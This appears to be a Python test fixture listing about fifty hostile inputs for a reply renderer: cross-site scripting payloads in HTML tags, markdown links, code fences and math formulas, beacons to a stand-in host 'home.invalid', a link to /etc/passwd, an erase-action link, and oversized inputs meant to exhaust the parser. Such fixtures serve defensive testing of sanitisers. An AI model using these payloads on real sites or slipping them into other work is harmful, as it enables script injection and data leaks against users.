"""Fifty replies that try to run a program in the page, to call home, or to leave their place."""

from __future__ import annotations

RUN = "window.pwned=1"
HOME = "http://home.invalid/seen"
HOSTILE = (
    # elements and handlers in the text
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={HOME}></SCRIPT>",
    f'<img src=x onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={HOME}></object><embed src={HOME}>",
    f'<a href="javascript:{RUN}">click</a>',
    f'<form action="{HOME}"><input name=q autofocus onfocus={RUN}></form>',
    f'<meta http-equiv="refresh" content="0;url={HOME}">',
    f"<base href={HOME}>",
    f"<link rel=stylesheet href={HOME}>",
    f"<style>body{{background:url({HOME})}}</style>",
    f'<p style="background:url({HOME});position:fixed;inset:0">cover</p>',
    f"<video src={HOME} onerror={RUN} autoplay></video>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<![CDATA[<img src=x onerror={RUN}>]]> <!--><img src=x onerror={RUN}>-->",
    # links and images
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN})",
    f"[click](java\\\nscript:{RUN})",
    f"[click](<java\tscript:{RUN}>)",
    f"[click](vbscript:{RUN}) [click](file:///etc/passwd) [click](blob:{HOME})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"![pixel]({HOME}.png)",
    f"![pixel](data:image/svg+xml,<svg onload={RUN}>)",
    f'![x" onerror="{RUN}]({HOME})',
    f'[click]({HOME} "title\\" onmouseover=\\"{RUN}")',
    f'<javascript:{RUN}> <{HOME}"onmouseover={RUN}>',
    f"[click][r]\n\n[r]: javascript:{RUN} 'onclick={RUN}'",
    '[save](/slots/0?action=erase) [up](//home.invalid/seen) [frame](#" onclick=alert)',
    # code
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"```html onload={RUN}\n</code></pre><script>{RUN}</script>\n```",
    f"```python' onmouseover='{RUN}\nx = '<script>{RUN}</script>'\n```",
    f"`</code><img src=x onerror={RUN}>`",
    # formulas
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f'$\\href{{javascript:{RUN}}}{{x}}$ and $\\color{{red" onclick="{RUN}}}{{y}}$',
    f"$$\\mbox{{</mtext></math><script>{RUN}</script>}}$$",
    f"\\[ &lt;img src=x onerror={RUN}&gt; \\style{{position:fixed}}{{x}} \\]",
    f'\\boxed{{<svg/onload={RUN}>}} \\begin{{array}}{{"><script>{RUN}</script>}}x\\end{{array}}',
    "$\\newcommand{\\a}{\\a\\a}\\a$ $\\def\\b{\\b\\b}\\b$",
    # much of something
    f"{'>' * 3000} <img src=x onerror={RUN}>",
    "*a **b " * 2000 + f"<script>{RUN}</script>",
    "$" + "{" * 3000 + "}" * 3000 + "$ \\(" + "\\frac{" * 1500,
    f"| a |\n|---|\n| <img src=x onerror={RUN}> `|` [x](javascript:{RUN}) |\n" + "| x " * 500,
)
